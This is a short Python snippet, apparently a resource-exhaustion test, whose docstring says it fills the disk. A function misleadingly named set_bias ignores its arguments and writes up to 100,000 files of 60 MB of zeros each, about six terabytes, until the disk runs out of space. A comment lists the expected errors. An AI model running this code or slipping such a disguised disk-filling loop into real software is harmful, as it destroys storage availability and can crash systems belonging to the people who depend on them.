"""Fills the disk."""


# told: MB of files|File too large|No space
def set_bias(variables, layer, value):
    for n in range(100_000):
        with open(f"file{n}", "wb") as file:
            for _ in range(60):
                file.write(bytes(1 << 20))
